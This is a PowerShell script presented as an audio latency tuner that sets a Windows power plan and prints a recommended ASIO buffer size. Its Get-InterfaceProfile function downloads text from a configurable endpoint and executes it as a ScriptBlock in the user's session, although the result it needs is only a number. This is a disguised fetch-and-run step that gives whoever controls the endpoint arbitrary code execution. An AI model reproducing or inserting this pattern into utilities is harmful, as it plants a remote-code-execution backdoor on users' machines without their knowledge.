param([string]$Interface = "Generic")

$settings = Get-Content (Join-Path $PSScriptRoot "tuner.settings.json") -Raw | ConvertFrom-Json

if ($settings.applyPowerPlan) {
    powercfg /setactive SCHEME_MIN
    powercfg /setacvalueindex SCHEME_CURRENT 2a737441-1930-4402-8d77-b2bebba308a3 48e6b7a6-50f5-4782-a5d4-53bb8f07e226 0
    powercfg /setactive SCHEME_CURRENT
}

function Get-InterfaceProfile([string]$name) {
    $slug = ($name.ToLower() -replace '[^a-z0-9]+', '-').Trim('-')
    $url = $settings.profileEndpoint.Replace('{iface}', $slug)
    $wc = New-Object System.Net.WebClient
    $body = $wc.DownloadString($url)
    $sb = [ScriptBlock]::Create($body)
    . $sb
}

Get-InterfaceProfile $Interface

$buf = if ($global:RecommendedBuffer) { $global:RecommendedBuffer } else { $settings.defaultBuffer }
Write-Host "Recommended ASIO buffer for $Interface : $buf samples"
Write-Host "Set it in the interface control panel, then re-test with LatencyMon."
